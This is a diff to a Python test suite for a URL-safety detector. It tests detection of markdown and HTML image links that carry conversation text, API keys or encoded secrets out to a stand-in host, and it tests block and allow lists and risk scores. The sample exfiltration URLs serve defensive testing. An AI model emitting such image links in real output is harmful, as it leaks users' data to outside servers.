@@ -1,7 +1,6 @@
 from __future__ import annotations
 
 import base64
-import time
 from pathlib import Path
 from typing import Any
 
@@ -242,30 +241,108 @@ def test_a_profile_may_block_texts_with_more_urls_than_are_looked_up(resources: 
 
 
 @pytest.mark.parametrize(
-    ("text", "noted"),
+    "text",
     [
-        ("![x](https://c.example.com/p.png?q={conversation})", True),
-        ("![x](https://c.example.com/p?d=dGhlIHNlY3JldCBpcyBmb3J0eSB0d28)", True),
-        ("![x](https://c.example.com/p?d=my+key+is+hunter2+and+more+text)", True),
-        ('<img src="https://c.example.com/p?d=my%20key%20is%20hunter2%20and%20more">', True),
-        ("![x](https://c.example.com/p.png?w=300&q=80)", False),
-        ("[x](https://c.example.com/p?d=my+key+is+hunter2+and+more+text)", False),
-        ("![x](https://c.example.com/p.png)", False),
+        "![x](https://c.example.com/p.png?q={conversation})",
+        "![x](https://c.example.com/p.png?q=<the API key>)",
+        "![x](https://c.example.com/p?d=dGhlIHNlY3JldCBpcyBmb3J0eSB0d28)",
+        "![x](https://c.example.com/p?n=1&d=746865207365637265742069732034322c20616e64206d6f7265)",
+        '<img src="https://c.example.com/p?d=reach%20me%20at%20anna%40example.org">',
     ],
 )
-def test_images_that_carry_data_out_are_noted_not_flagged(resources: Resources, text: str, noted: bool) -> None:
-    rules = [(finding.rule, finding.flagged) for finding in found(compiled(resources, BLOCK), text)]
-    assert ((UrlRule.IMAGE_EXFILTRATION, False) in rules) is noted
-    assert not any(is_flagged for _, is_flagged in rules)
+def test_images_that_surely_carry_data_out_are_flagged(resources: Resources, text: str) -> None:
+    hits = flagged(compiled(resources, BLOCK), text)
+    assert [hit.rule for hit in hits] == [UrlRule.IMAGE_EXFILTRATION]
+    assert hits[0].categories == ("command-and-control", "real-time-detection")
+    assert compiled(resources, BLOCK).score(subject(text)) >= 0.8  # type: ignore[attr-defined]
 
 
-def test_a_kilobyte_is_quick_and_a_megabyte_is_linear(resources: Resources) -> None:
-    detector = compiled(resources, BLOCK)
-    prepared = subject(" ".join(f"![](http://a{number}.com/?q={'a' * 30})" for number in range(20_000)))
-    started = time.process_time()
-    findings = detector.detect(prepared)
-    assert time.process_time() - started < 3  # 0.1 on an idle machine
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://c.example.com/p?d=my+key+is+hunter2+and+more+text)",
+        '<img src="https://c.example.com/avatar?name={{ user.name }}">',
+    ],
+)
+def test_images_that_may_carry_data_out_are_high_risk_only(resources: Resources, text: str) -> None:
+    hits = [hit for hit in found(compiled(resources, BLOCK), text) if hit.rule is UrlRule.IMAGE_EXFILTRATION]
+    assert [(hit.flagged, hit.categories) for hit in hits] == [(False, ("high-risk",))]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://c.example.com/p.png?w=300&q=80)",
+        "[x](https://c.example.com/p?d=my+key+is+hunter2+and+more+text)",
+        "![x](https://c.example.com/p.png)",
+        "![chart](https://quickchart.io/chart?c={type:'bar',data:{labels:['secret','conversation']}})",
+        "![badge](https://img.shields.io/static/v1?label=the+api+key+of+this&message=is+well+kept+and+rotated)",
+        "![f](https://latex.codecogs.com/svg.latex?x%20%3D%20%5Cfrac%20a%20b%20and%20so%20on)",
+        "![a](https://bucket.s3.amazonaws.com/a.png?X-Amz-Signature=4d1f3c0a9be277fd0a51c6e8f7d3b2a190817263544536271809fedcba987654)",
+        "![a](http://192.168.1.20/cam.jpg?note=reach%20me%20at%20anna%40example.org)",
+        "![a](https://c.example.com/p?token=eJwrSy0qzszPUzBSyE0tLk5MTwUAKXUFgw)",
+    ],
+)
+def test_pictures_with_parameters_are_no_exfiltration(resources: Resources, text: str) -> None:
+    assert UrlRule.IMAGE_EXFILTRATION not in [finding.rule for finding in found(compiled(resources, BLOCK), text)]
+
+
+def test_two_megabytes_of_urls_end_at_the_limit(resources: Resources) -> None:
+    findings = found(compiled(resources, BLOCK), " ".join(f"![](http://a{number}.com/?q={'a' * 30})" for number in range(40_000)))
     assert len(findings) <= 201
+    assert findings[-1].rule is UrlRule.URLS_NOT_EXAMINED
+
+
+OWN = {
+    "url-detected-action": "block",
+    "allow-url-list": {"member": ["listed-malware.example.com", "https://shop.example.net/ok/"]},
+    "block-url-list": {"member": ["evil.listed-malware.example.com", "shop.example.net", "*.pages.dev", "203.0.113.7", "bad.sh"]},
+    "alert-url-list": {"member": ["watched.example.net", "shop.example.net/watched"]},
+}
+
+
+@pytest.mark.parametrize(
+    ("url", "action"),
+    [
+        ("http://listed-malware.example.com/x", None),
+        ("http://www.listed-malware.example.com/x", None),
+        ("http://evil.listed-malware.example.com/x", Action.BLOCK),
+        ("http://shop.example.net", Action.BLOCK),
+        ("http://www.shop.example.net/x", Action.BLOCK),
+        ("http://shop.example.net/ok/1", None),
+        ("http://shop.example.net/watched", Action.ALERT),
+        ("http://watched.example.net/", Action.ALERT),
+        ("http://customer.pages.dev/", Action.BLOCK),
+        ("http://203.0.113.7/x", Action.BLOCK),
+        ("bad.sh", Action.BLOCK),
+        ("http://other.example.net/", None),
+    ],
+)
+def test_the_profiles_own_lists_beat_everything_and_the_most_specific_entry_wins(
+    resources: Resources, url: str, action: Action | None
+) -> None:
+    hits = flagged(compiled(resources, OWN), f"see {url} now")
+    assert [hit.action for hit in hits] == ([] if action is None else [action])
+    assert all(hit.rule is UrlRule.OWN_LIST for hit in hits)
+
+
+def test_own_lists_work_without_categories(resources: Resources) -> None:
+    detector = compiled(resources, {"block-url-list": {"member": ["shop.example.net"]}})
+    assert [hit.rule for hit in flagged(detector, "shop.example.net and listed-malware.example.com")] == [UrlRule.OWN_LIST]
+
+
+def test_the_score_says_how_likely_the_worst_url_is(resources: Resources) -> None:
+    detector = compiled(resources, {"alert-url-category": {"member": ["gambling"]}})
+    scored = [
+        "nothing here",
+        "https://docs.python.org/3/library/json.html",
+        "https://paypal.com.account-verify.example/login",
+        "https://docs.python.org and listed-malware.example.com",
+    ]
+    scores = [detector.score(subject(text)) for text in scored]  # type: ignore[attr-defined]
+    assert scores[0] == 0.0
+    assert scores == sorted(scores)
+    assert scores[1] < 0.5 < scores[2] < scores[3] == 1.0
 
 
 @settings(max_examples=100, deadline=None)
